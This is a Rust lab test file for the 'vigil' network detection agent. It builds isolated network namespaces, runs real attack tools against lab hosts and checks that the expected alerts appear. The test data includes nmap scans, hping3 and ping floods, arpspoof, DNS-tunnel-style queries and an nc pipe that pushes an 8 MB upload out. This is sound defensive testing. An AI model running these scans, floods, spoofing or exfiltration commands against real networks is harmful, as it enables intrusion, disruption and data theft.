//! Lab tests: real attack tools against hosts in network namespaces, a real `vigil agent`
//! capturing in the victim, a real server; plus `vigil agent --pcap` and the agent without
//! capture privileges.
//!
//! Topology (names carry a random id so parallel runs do not clash; everything is removed
//! by a Drop guard, also on panic):
//!
//! ```text
//!   attacker 10.77.0.66 ─┐
//!   victim   10.77.0.10 ─┼─ bridge vb<id> (host, no address) ── gateway 10.77.0.1 / 203.0.113.1 ── outside 203.0.113.80
//!                        │
//!   victim mgmt0 10.254.x.2/30 ── host v<id>m 10.254.x.1/30: the server (in this process) listens here
//! ```
//!
//! The agent runs in the victim namespace (`ip netns exec`), captures its `eth0` and ships
//! to the server over the management link, which it does not capture. Services on the
//! outside host (HTTP, FTP, DNS, an upload sink, port 4444) are this test binary itself,
//! started in that namespace with `VIGIL_LAB_HELPER` set. Every tool runs inside a lab
//! namespace under `timeout`, against lab addresses only; floods have a packet count.
//!
//! Needs root, iproute2 and the tools; otherwise the tests skip loudly, unless
//! `VIGIL_LAB=required` (CI), which turns a skip into a failure.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use vigil_pki::{InitOptions, Pki};
use vigil_testkit::Lab;

/// Lab tests run one at a time: floods on a 2-core machine should not overlap.
static LAB_LOCK: Mutex<()> = Mutex::new(());

const TOOLS: [&str; 9] = ["ip", "nmap", "hping3", "ping", "arpspoof", "dig", "curl", "nc", "timeout"];
const VICTIM: &str = "10.77.0.10";
const ATTACKER: &str = "10.77.0.66";
const GATEWAY: &str = "10.77.0.1";
const OUTSIDE: &str = "203.0.113.80";
/// How long an alert may take from the end of an attack to the server's API.
const ALERT_WITHIN: Duration = Duration::from_secs(5);

fn required() -> bool {
    std::env::var("VIGIL_LAB").is_ok_and(|v| v == "required")
}

/// Skips loudly, or fails when the lab is required.
fn skip(why: &str) {
    if required() {
        panic!("VIGIL_LAB=required but the lab cannot run: {why}");
    }
    eprintln!("\n*** SKIPPING lab test: {why} (set VIGIL_LAB=required to make this a failure) ***\n");
}

fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| s.lines().find(|l| l.starts_with("Uid:")).map(|l| l.split_whitespace().nth(2) == Some("0")))
        .unwrap_or(false)
}

fn which(tool: &str) -> bool {
    let path = std::env::var("PATH").unwrap_or_default() + ":/usr/sbin:/sbin:/usr/bin:/bin";
    path.split(':').any(|d| Path::new(d).join(tool).is_file())
}

/// Why the lab cannot run here, if it cannot.
fn lab_unavailable() -> Option<String> {
    if !cfg!(target_os = "linux") {
        return Some("the lab needs Linux network namespaces".into());
    }
    if !is_root() {
        return Some("the lab needs root (network namespaces, raw sockets)".into());
    }
    let missing: Vec<&str> = TOOLS.iter().copied().filter(|t| !which(t)).collect();
    if !missing.is_empty() {
        return Some(format!(
            "missing tools: {} (Debian: iproute2 nmap hping3 iputils-ping dsniff bind9-dnsutils curl netcat-openbsd coreutils)",
            missing.join(", ")
        ));
    }
    None
}

/// Runs a command to completion; panics with its output on failure.
fn sh(args: &[&str]) -> String {
    let out = Command::new(args[0]).args(&args[1..]).output().unwrap_or_else(|e| panic!("{args:?}: {e}"));
    assert!(
        out.status.success(),
        "{args:?} failed: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Runs a command and ignores its outcome (cleanup).
fn sh_quiet(args: &[&str]) {
    let _ = Command::new(args[0]).args(&args[1..]).stdout(Stdio::null()).stderr(Stdio::null()).status();
}

/// The namespaces, bridge and links of one lab; removed on drop.
struct Net {
    id: String,
    mgmt_host: Ipv4Addr,
    helpers: Vec<Child>,
}

impl Net {
    fn ns(&self, role: &str) -> String {
        format!("vl{}-{role}", self.id)
    }

    fn build() -> Net {
        let raw = uuid::Uuid::new_v4().simple().to_string();
        let id = raw[..6].to_owned();
        let b = u8::from_str_radix(&raw[6..8], 16).unwrap();
        let c = u8::from_str_radix(&raw[8..10], 16).unwrap() & 0xfc;
        let net = Net { id: id.clone(), mgmt_host: Ipv4Addr::new(10, 254, b, c + 1), helpers: Vec::new() };
        let br = format!("vb{id}");
        for role in ["att", "vic", "gw", "out"] {
            sh(&["ip", "netns", "add", &net.ns(role)]);
            sh(&["ip", "-n", &net.ns(role), "link", "set", "lo", "up"]);
        }
        sh(&["ip", "link", "add", &br, "type", "bridge"]);
        sh(&["ip", "link", "set", &br, "up"]);
        // LAN: attacker, victim, gateway on the bridge.
        for (role, tag, addr) in [("att", "a", ATTACKER), ("vic", "v", VICTIM), ("gw", "g", GATEWAY)] {
            let host_end = format!("v{id}{tag}");
            let ns_end = format!("v{id}{tag}x");
            sh(&["ip", "link", "add", &host_end, "type", "veth", "peer", "name", &ns_end]);
            sh(&["ip", "link", "set", &host_end, "master", &br, "up"]);
            sh(&["ip", "link", "set", &ns_end, "netns", &net.ns(role)]);
            let n = net.ns(role);
            sh(&["ip", "-n", &n, "link", "set", &ns_end, "name", "eth0"]);
            sh(&["ip", "-n", &n, "addr", "add", &format!("{addr}/24"), "dev", "eth0"]);
            sh(&["ip", "-n", &n, "link", "set", "eth0", "up"]);
        }
        for role in ["att", "vic"] {
            sh(&["ip", "-n", &net.ns(role), "route", "add", "default", "via", GATEWAY]);
        }
        // WAN: gateway eth1 to the outside host.
        let (w1, w2) = (format!("v{id}w"), format!("v{id}wx"));
        sh(&["ip", "link", "add", &w1, "type", "veth", "peer", "name", &w2]);
        sh(&["ip", "link", "set", &w1, "netns", &net.ns("gw")]);
        sh(&["ip", "link", "set", &w2, "netns", &net.ns("out")]);
        sh(&["ip", "-n", &net.ns("gw"), "link", "set", &w1, "name", "eth1"]);
        sh(&["ip", "-n", &net.ns("gw"), "addr", "add", "203.0.113.1/24", "dev", "eth1"]);
        sh(&["ip", "-n", &net.ns("gw"), "link", "set", "eth1", "up"]);
        sh(&["ip", "-n", &net.ns("out"), "link", "set", &w2, "name", "eth0"]);
        sh(&["ip", "-n", &net.ns("out"), "addr", "add", &format!("{OUTSIDE}/24"), "dev", "eth0"]);
        sh(&["ip", "-n", &net.ns("out"), "link", "set", "eth0", "up"]);
        sh(&["ip", "-n", &net.ns("out"), "route", "add", "default", "via", "203.0.113.1"]);
        sh(&["ip", "netns", "exec", &net.ns("gw"), "sysctl", "-qw", "net.ipv4.ip_forward=1"]);
        // Management link: host <-> victim, for the agent to reach the server.
        let (m1, m2) = (format!("v{id}m"), format!("v{id}mx"));
        sh(&["ip", "link", "add", &m1, "type", "veth", "peer", "name", &m2]);
        sh(&["ip", "link", "set", &m2, "netns", &net.ns("vic")]);
        sh(&["ip", "addr", "add", &format!("{}/30", net.mgmt_host), "dev", &m1]);
        sh(&["ip", "link", "set", &m1, "up"]);
        let victim_mgmt = Ipv4Addr::from(u32::from(net.mgmt_host) + 1);
        sh(&["ip", "-n", &net.ns("vic"), "link", "set", &m2, "name", "mgmt0"]);
        sh(&["ip", "-n", &net.ns("vic"), "addr", "add", &format!("{victim_mgmt}/30"), "dev", "mgmt0"]);
        sh(&["ip", "-n", &net.ns("vic"), "link", "set", "mgmt0", "up"]);
        net
    }

    /// `cmd` inside namespace `role`, bounded by `timeout`.
    fn exec(&self, role: &str, limit_secs: u32, cmd: &[&str]) -> std::process::Output {
        let ns = self.ns(role);
        let limit = limit_secs.to_string();
        let mut args = vec!["netns", "exec", ns.as_str(), "timeout", limit.as_str()];
        args.extend_from_slice(cmd);
        Command::new("ip").args(&args).output().unwrap()
    }

    /// Starts this test binary as the service helper in the outside namespace.
    fn start_services(&mut self) {
        let exe = std::env::current_exe().unwrap();
        let child = Command::new("ip")
            .args(["netns", "exec", &self.ns("out")])
            .arg(exe)
            .args(["--exact", "lab::lab_service_helper", "--nocapture", "--test-threads", "1"])
            .env("VIGIL_LAB_HELPER", "1")
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        self.helpers.push(child);
        // Ready when it accepts on port 80.
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            let o = self.exec("gw", 2, &["nc", "-z", "-w", "1", OUTSIDE, "80"]);
            if o.status.success() {
                return;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        panic!("the lab service helper did not come up");
    }

    fn mac(&self, role: &str) -> String {
        sh(&["ip", "netns", "exec", &self.ns(role), "cat", "/sys/class/net/eth0/address"]).trim().to_owned()
    }
}

impl Drop for Net {
    fn drop(&mut self) {
        for h in &mut self.helpers {
            let _ = h.kill();
            let _ = h.wait();
        }
        for role in ["att", "vic", "gw", "out"] {
            // Deleting a namespace removes the veth ends inside it, and their peers.
            sh_quiet(&["ip", "netns", "del", &self.ns(role)]);
        }
        sh_quiet(&["ip", "link", "del", &format!("vb{}", self.id)]);
        for tag in ["a", "v", "g", "w", "m"] {
            sh_quiet(&["ip", "link", "del", &format!("v{}{tag}", self.id)]);
        }
    }
}

/// A `vigil agent` process; killed on drop.
struct AgentProc {
    child: Child,
    log: PathBuf,
}

impl AgentProc {
    fn log_text(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn wait_for_log(&self, needle: &str, limit: Duration) -> bool {
        let deadline = Instant::now() + limit;
        while Instant::now() < deadline {
            if self.log_text().contains(needle) {
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        false
    }
}

impl Drop for AgentProc {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Spawns `vigil agent` with `prefix` (e.g. `ip netns exec NS`) in front.
fn spawn_agent(prefix: &[&str], dir: &Path, cred: &Path, server: &str, extra: &[&str]) -> AgentProc {
    let log = dir.join(format!("agent-{}.log", uuid::Uuid::new_v4().simple()));
    let bin = env!("CARGO_BIN_EXE_vigil");
    let mut cmd = if prefix.is_empty() {
        Command::new(bin)
    } else {
        let mut c = Command::new(prefix[0]);
        c.args(&prefix[1..]).arg(bin);
        c
    };
    cmd.args(["agent", "--credentials"])
        .arg(cred)
        .args(["--server", server, "--interval", "1s", "--state-dir"])
        .arg(dir.join(format!("state-{}", uuid::Uuid::new_v4().simple())))
        .args(extra)
        .env("VIGIL_LOG", "info")
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap());
    AgentProc { child: cmd.spawn().unwrap(), log }
}

/// A server for the lab, listening on `ip`, with a PKI that names it.
struct LabServer {
    lab: Lab,
    rt: tokio::runtime::Runtime,
    server: Option<vigil_server::RunningServer>,
    addr: SocketAddr,
    key: String,
    client: reqwest::Client,
}

impl LabServer {
    fn start(ip: IpAddr) -> LabServer {
        let dir = tempfile::tempdir().unwrap();
        Pki::at(dir.path())
            .init(&InitOptions {
                server_names: if ip.is_loopback() {
                    vec!["localhost".into(), "127.0.0.1".into()]
                } else {
                    vec!["localhost".into(), "127.0.0.1".into(), ip.to_string()]
                },
                force: false,
            })
            .unwrap();
        let lab = Lab { dir };
        let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        let server = rt.block_on(vigil_server::start(lab.settings(SocketAddr::new(ip, 0)))).unwrap();
        let addr = server.local_addr;
        let key = lab.admin_key();
        let client = lab.api_client();
        LabServer { lab, rt, server: Some(server), addr, key, client }
    }

    fn url(&self) -> String {
        format!("https://{}:{}", self.addr.ip(), self.addr.port())
    }

    /// GET `path`; `None` on 404 (e.g. an agent not heard from yet).
    fn get(&self, path: &str) -> Option<serde_json::Value> {
        let url = format!("{}{path}", self.url());
        self.rt.block_on(async {
            let resp = self.client.get(&url).header("X-API-Key", &self.key).send().await.unwrap();
            if resp.status().as_u16() == 404 {
                return None;
            }
            let status = resp.status();
            let body = resp.text().await.unwrap_or_default();
            assert!(status.is_success(), "GET {path}: {status}: {body}");
            Some(serde_json::from_str(&body).unwrap())
        })
    }

    fn alerts(&self, agent: &str) -> Vec<serde_json::Value> {
        let v = self.get(&format!("/api/v1/alerts?agent={agent}&limit=500")).unwrap_or_default();
        v["alerts"].as_array().cloned().unwrap_or_default()
    }

    /// Polls until `pred` holds for an alert of `agent`, for at most `limit`.
    fn wait_alert(
        &self,
        agent: &str,
        limit: Duration,
        pred: impl Fn(&serde_json::Value) -> bool,
    ) -> Option<serde_json::Value> {
        let deadline = Instant::now() + limit;
        loop {
            if let Some(a) = self.alerts(agent).into_iter().find(|a| pred(a)) {
                return Some(a);
            }
            if Instant::now() >= deadline {
                return None;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    fn issue(&self, id: &str) -> PathBuf {
        self.lab.issue(id, None).unwrap().0
    }
}

impl Drop for LabServer {
    fn drop(&mut self) {
        if let Some(s) = self.server.take() {
            self.rt.block_on(s.shutdown());
        }
    }
}

/// One attack and the alert it must raise.
struct Scenario {
    name: &'static str,
    /// Category expected.
    category: &'static str,
    /// Expected `src_ip`, and `src_mac` when set.
    src_ip: &'static str,
    src_mac_of: Option<&'static str>,
    run: fn(&Net),
}

fn attacks() -> Vec<Scenario> {
    vec![
        Scenario {
            name: "nmap -sS (SYN scan)",
            category: "port_scan",
            src_ip: ATTACKER,
            src_mac_of: None,
            run: |n| {
                n.exec("att", 60, &["nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "1-200", VICTIM]);
            },
        },
        Scenario {
            name: "nmap -sT (connect scan)",
            category: "port_scan",
            src_ip: ATTACKER,
            src_mac_of: None,
            run: |n| {
                n.exec("att", 60, &["nmap", "-sT", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "1-200", VICTIM]);
            },
        },
        Scenario {
            name: "nmap -sX (XMAS scan)",
            category: "port_scan",
            src_ip: ATTACKER,
            src_mac_of: None,
            run: |n| {
                n.exec("att", 60, &["nmap", "-sX", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "1-100", VICTIM]);
            },
        },
        Scenario {
            name: "nmap -sN (NULL scan)",
            category: "port_scan",
            src_ip: ATTACKER,
            src_mac_of: None,
            run: |n| {
                n.exec("att", 60, &["nmap", "-sN", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "1-100", VICTIM]);
            },
        },
        Scenario {
            // A compromised host sweeping a subnet for SMB (the worm pattern): 64 addresses
            // behind the lab gateway, one of them the outside host (which refuses).
            name: "nmap -sS -p 445 203.0.113.64/26 from the victim (host sweep)",
            category: "port_scan",
            src_ip: VICTIM,
            src_mac_of: None,
            run: |n| {
                n.exec(
                    "vic",
                    60,
                    &["nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "445", "203.0.113.64/26"],
                );
            },
        },
        Scenario {
            // Host discovery on the LAN: as root, nmap -sn asks ARP for every address.
            name: "nmap -sn 10.77.0.0/24 (ARP sweep)",
            category: "port_scan",
            src_ip: ATTACKER,
            src_mac_of: Some("att"),
            run: |n| {
                n.exec("att", 60, &["nmap", "-sn", "-n", "-T4", "10.77.0.0/24"]);
            },
        },
        Scenario {
            name: "hping3 -S --faster -c 3000 (SYN flood)",
            category: "syn_flood",
            src_ip: ATTACKER,
            src_mac_of: None,
            run: |n| {
                n.exec("att", 30, &["hping3", "-q", "-S", "--faster", "-c", "3000", "-p", "80", VICTIM]);
            },
        },
        Scenario {
            name: "ping -f -c 2000 (ICMP flood)",
            category: "icmp_flood",
            src_ip: ATTACKER,
            src_mac_of: None,
            run: |n| {
                n.exec("att", 30, &["ping", "-q", "-f", "-c", "2000", "-w", "20", VICTIM]);
            },
        },
        Scenario {
            name: "arpspoof (victim told the gateway is the attacker)",
            category: "arp_spoof",
            src_ip: GATEWAY,
            src_mac_of: Some("att"),
            run: |n| {
                // The victim learns the real gateway first, in this agent's sight: a
                // neighbour entry left from an earlier scenario would skip the ARP exchange,
                // and a passive monitor that meets the spoofer first takes it for the owner.
                n.exec("vic", 5, &["ip", "neigh", "flush", "dev", "eth0"]);
                n.exec("vic", 5, &["ping", "-c", "2", "-i", "0.2", GATEWAY]);
                n.exec("att", 4, &["arpspoof", "-i", "eth0", "-t", VICTIM, GATEWAY]);
            },
        },
        Scenario {
            name: "dig with long random subdomains (DNS tunnel)",
            category: "dns_tunnel",
            src_ip: VICTIM,
            src_mac_of: None,
            run: |n| {
                let mut batch = String::new();
                for _ in 0..30 {
                    let a = uuid::Uuid::new_v4().simple().to_string();
                    let b = uuid::Uuid::new_v4().simple().to_string();
                    batch.push_str(&format!("{a}{}.{}.t.lab.example\n", &b[..28], &b[..20]));
                }
                let file = std::env::temp_dir().join(format!("vigil-lab-dig-{}", n.id));
                std::fs::write(&file, batch).unwrap();
                n.exec(
                    "vic",
                    30,
                    &["dig", &format!("@{OUTSIDE}"), "+tries=1", "+time=1", "-f", file.to_str().unwrap()],
                );
                let _ = std::fs::remove_file(file);
            },
        },
        Scenario {
            name: "curl -u user:pass over plain HTTP",
            category: "plaintext_credentials",
            src_ip: VICTIM,
            src_mac_of: None,
            run: |n| {
                n.exec("vic", 10, &["curl", "-s", "-u", "alice:s3cret", &format!("http://{OUTSIDE}/")]);
            },
        },
        Scenario {
            name: "FTP login",
            category: "plaintext_credentials",
            src_ip: VICTIM,
            src_mac_of: None,
            run: |n| {
                n.exec(
                    "vic",
                    10,
                    &["curl", "-s", "--max-time", "5", "-u", "bob:hunter2", &format!("ftp://{OUTSIDE}/")],
                );
            },
        },
        Scenario {
            name: "8 MB upload to the outside host",
            category: "data_exfiltration",
            src_ip: VICTIM,
            src_mac_of: None,
            run: |n| {
                n.exec("vic", 30, &["sh", "-c", &format!("head -c 8388608 /dev/zero | nc -N -w 5 {OUTSIDE} 9000")]);
            },
        },
        Scenario {
            name: "connection to port 4444",
            category: "suspicious_port",
            src_ip: VICTIM,
            src_mac_of: None,
            run: |n| {
                n.exec("vic", 10, &["nc", "-z", "-w", "2", OUTSIDE, "4444"]);
            },
        },
    ]
}

/// Starts an agent capturing the victim's eth0 as `agent_id`; waits for capture to run.
fn victim_agent(net: &Net, srv: &LabServer, agent_id: &str, dir: &Path) -> AgentProc {
    let cred = srv.issue(agent_id);
    let ns = net.ns("vic");
    let agent = spawn_agent(&["ip", "netns", "exec", &ns], dir, &cred, &srv.url(), &["--interface", "eth0"]);
    assert!(
        agent.wait_for_log("packet capture started", Duration::from_secs(15)),
        "agent did not start capturing:\n{}",
        agent.log_text()
    );
    agent
}

#[test]
fn lab_attacks_raise_the_right_alerts_and_benign_traffic_does_not() {
    let _guard = LAB_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    if let Some(why) = lab_unavailable() {
        return skip(&why);
    }
    let mut net = Net::build();
    net.start_services();
    let srv = LabServer::start(IpAddr::V4(net.mgmt_host));
    let dir = tempfile::tempdir().unwrap();
    let mut failures = Vec::new();

    for (i, sc) in attacks().iter().enumerate() {
        // A fresh agent per scenario: a fresh engine (no cooldown carried over) and its
        // own agent id to filter alerts by.
        let agent_id = format!("victim-{i}");
        let agent = victim_agent(&net, &srv, &agent_id, dir.path());
        let started = Instant::now();
        (sc.run)(&net);
        let ran = started.elapsed();
        let want_mac = sc.src_mac_of.map(|role| net.mac(role));
        let found = srv.wait_alert(&agent_id, ALERT_WITHIN, |a| {
            a["category"] == sc.category
                && a["src_ip"] == sc.src_ip
                && want_mac.as_ref().is_none_or(|m| a["src_mac"].as_str() == Some(m.as_str()))
        });
        match found {
            Some(a) => eprintln!(
                "lab: {} -> {} from {} ({:.1} s attack)",
                sc.name,
                a["category"],
                a["src_ip"],
                ran.as_secs_f64()
            ),
            None => {
                let got: Vec<String> = srv
                    .alerts(&agent_id)
                    .iter()
                    .map(|a| format!("{} src={} mac={}", a["category"], a["src_ip"], a["src_mac"]))
                    .collect();
                failures.push(format!(
                    "{}: no {} alert from {} (mac {:?}) within {:?}; got {got:?}\nagent log:\n{}",
                    sc.name,
                    sc.category,
                    sc.src_ip,
                    want_mac,
                    ALERT_WITHIN,
                    agent.log_text()
                ));
            }
        }
        drop(agent);
    }

    // Benign: web and DNS only. Nothing of severity medium or above.
    let agent_id = "victim-benign";
    let agent = victim_agent(&net, &srv, agent_id, dir.path());
    for _ in 0..3 {
        net.exec("vic", 10, &["curl", "-s", &format!("http://{OUTSIDE}/index.html")]);
        net.exec("vic", 10, &["dig", &format!("@{OUTSIDE}"), "+tries=1", "+time=1", "www.example.com"]);
        net.exec("vic", 10, &["dig", &format!("@{OUTSIDE}"), "+tries=1", "+time=1", "mail.example.org", "MX"]);
    }
    // Give anything that would be raised the same time an attack gets.
    std::thread::sleep(ALERT_WITHIN);
    let loud: Vec<String> = srv
        .alerts(agent_id)
        .iter()
        .filter(|a| matches!(a["severity"].as_str(), Some("medium" | "high" | "critical")))
        .map(|a| format!("{} {} {}", a["category"], a["severity"], a["summary"]))
        .collect();
    if !loud.is_empty() {
        failures.push(format!("benign web and DNS traffic raised: {loud:?}"));
    }
    drop(agent);
    assert!(failures.is_empty(), "{} lab scenario(s) failed:\n{}", failures.len(), failures.join("\n\n"));
}

/// The services of the outside host: HTTP on 80, FTP on 21, DNS on 53/udp, an upload
/// sink on 9000, a listener on 4444. Runs only when started by the lab (env var set),
/// for at most 10 minutes.
#[test]
fn lab_service_helper() {
    if std::env::var_os("VIGIL_LAB_HELPER").is_none() {
        return;
    }
    let tcp = |port: u16, handler: fn(std::net::TcpStream)| {
        let l = TcpListener::bind(("0.0.0.0", port)).unwrap();
        std::thread::spawn(move || {
            for s in l.incoming().flatten() {
                std::thread::spawn(move || handler(s));
            }
        });
    };
    tcp(80, |mut s| {
        let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
        let mut r = BufReader::new(s.try_clone().unwrap());
        let mut line = String::new();
        while r.read_line(&mut line).is_ok_and(|n| n > 0) {
            if line == "\r\n" || line == "\n" {
                break;
            }
            line.clear();
        }
        let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 20\r\nConnection: close\r\n\r\n<html>hello</html>\r\n");
    });
    tcp(21, |mut s| {
        let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
        let _ = s.write_all(b"220 lab FTP ready\r\n");
        let mut r = BufReader::new(s.try_clone().unwrap());
        let mut line = String::new();
        while r.read_line(&mut line).is_ok_and(|n| n > 0) {
            let cmd = line.split_whitespace().next().unwrap_or("").to_ascii_uppercase();
            let reply: &[u8] = match cmd.as_str() {
                "USER" => b"331 Password required\r\n",
                "PASS" => b"230 Logged in\r\n",
                "PWD" => b"257 \"/\"\r\n",
                "QUIT" => b"221 Bye\r\n",
                _ => b"502 Not implemented\r\n",
            };
            if s.write_all(reply).is_err() || cmd == "QUIT" {
                break;
            }
            line.clear();
        }
    });
    tcp(9000, |mut s| {
        let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
        let mut buf = [0u8; 65536];
        while s.read(&mut buf).is_ok_and(|n| n > 0) {}
    });
    tcp(4444, |mut s| {
        let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
        let mut buf = [0u8; 1024];
        let _ = s.read(&mut buf);
    });
    let dns = UdpSocket::bind(("0.0.0.0", 53)).unwrap();
    std::thread::spawn(move || {
        let mut buf = [0u8; 1500];
        while let Ok((n, peer)) = dns.recv_from(&mut buf) {
            if n < 12 {
                continue;
            }
            // Same id and question; QR, RD, RA set; NXDOMAIN; no records.
            let mut resp = buf[..n].to_vec();
            resp[2] = 0x81 | (buf[2] & 0x01);
            resp[3] = 0x83;
            resp[6..12].copy_from_slice(&[0; 6]);
            let _ = dns.send_to(&resp, peer);
        }
    });
    println!("lab services up");
    std::thread::sleep(Duration::from_secs(600));
}

/// A minimal Ethernet/IPv4/TCP SYN.
fn syn_frame(src: [u8; 4], dst: [u8; 4], dport: u16) -> Vec<u8> {
    let mut f = vec![0u8; 54];
    f[0..6].copy_from_slice(&[2, 0, 0, 0, 0, 10]);
    f[6..12].copy_from_slice(&[2, 0, 0, 0, 0, 66]);
    f[12..14].copy_from_slice(&[0x08, 0x00]);
    f[14] = 0x45;
    f[16..18].copy_from_slice(&40u16.to_be_bytes());
    f[22] = 64;
    f[23] = 6;
    f[26..30].copy_from_slice(&src);
    f[30..34].copy_from_slice(&dst);
    let sum: u32 = f[14..34].chunks(2).map(|c| u32::from(u16::from_be_bytes([c[0], c[1]]))).sum();
    let sum = (sum & 0xffff) + (sum >> 16);
    f[24..26].copy_from_slice(&(!((sum & 0xffff) + (sum >> 16)) as u16).to_be_bytes());
    f[34..36].copy_from_slice(&40000u16.to_be_bytes());
    f[36..38].copy_from_slice(&dport.to_be_bytes());
    f[46] = 0x50;
    f[47] = 0x02;
    f[48..50].copy_from_slice(&1024u16.to_be_bytes());
    f
}

fn write_pcap(path: &Path, frames: &[Vec<u8>]) {
    let mut v = Vec::new();
    v.extend_from_slice(&0xa1b2_c3d4u32.to_le_bytes());
    v.extend_from_slice(&[2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    v.extend_from_slice(&65535u32.to_le_bytes());
    v.extend_from_slice(&1u32.to_le_bytes());
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() as u32;
    for (i, f) in frames.iter().enumerate() {
        v.extend_from_slice(&now.to_le_bytes());
        v.extend_from_slice(&(i as u32 * 1000).to_le_bytes());
        v.extend_from_slice(&(f.len() as u32).to_le_bytes());
        v.extend_from_slice(&(f.len() as u32).to_le_bytes());
        v.extend_from_slice(f);
    }
    std::fs::write(path, v).unwrap();
}

/// `vigil agent --pcap FILE` pushes a capture through detection, the spool and the
/// server: a deployment check that needs no privileges.
#[test]
fn agent_pcap_pushes_a_capture_to_the_server() {
    let srv = LabServer::start(IpAddr::V4(Ipv4Addr::LOCALHOST));
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("scan.pcap");
    let frames: Vec<Vec<u8>> = (1..=60).map(|p| syn_frame([192, 168, 7, 66], [192, 168, 7, 10], p)).collect();
    write_pcap(&pcap, &frames);
    let cred = srv.issue("pcap-check");
    let agent = spawn_agent(&[], dir.path(), &cred, &srv.url(), &["--pcap", pcap.to_str().unwrap()]);
    let a = srv.wait_alert("pcap-check", Duration::from_secs(20), |a| a["category"] == "port_scan");
    let a = a.unwrap_or_else(|| panic!("no port_scan from the capture file; agent log:\n{}", agent.log_text()));
    assert_eq!(a["src_ip"], "192.168.7.66");
    assert_eq!(a["agent"], "pcap-check");
    assert!(agent.wait_for_log("capture file analysed", Duration::from_secs(10)), "{}", agent.log_text());
}

/// Without CAP_NET_RAW the agent names the missing capability and the setcap command, and
/// host metrics still arrive.
#[test]
fn agent_without_capture_privileges_says_why_and_keeps_sending_metrics() {
    let srv = LabServer::start(IpAddr::V4(Ipv4Addr::LOCALHOST));
    let dir = tempfile::tempdir().unwrap();
    let cred = srv.issue("no-caps");
    // As root, drop every capability for the agent; otherwise we are unprivileged already.
    let have_setpriv = which("setpriv");
    if is_root() && !have_setpriv {
        return skip("setpriv (util-linux) is needed to drop capabilities as root");
    }
    let prefix: &[&str] = if is_root() { &["setpriv", "--inh-caps=-all", "--bounding-set=-all", "--"] } else { &[] };
    let agent = spawn_agent(prefix, dir.path(), &cred, &srv.url(), &["--interface", "lo"]);
    assert!(
        agent.wait_for_log("CAP_NET_RAW", Duration::from_secs(15)),
        "no word about the missing capability:\n{}",
        agent.log_text()
    );
    let log = agent.log_text();
    assert!(log.contains("setcap cap_net_raw,cap_net_admin=eip"), "{log}");
    let deadline = Instant::now() + Duration::from_secs(15);
    let mut samples = 0;
    while Instant::now() < deadline && samples < 2 {
        let v = srv.get("/api/v1/agents/no-caps/metrics?limit=10").unwrap_or_default();
        samples = v["samples"].as_array().map_or(0, Vec::len);
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(samples >= 2, "host metrics stopped without capture; log:\n{}", agent.log_text());
}
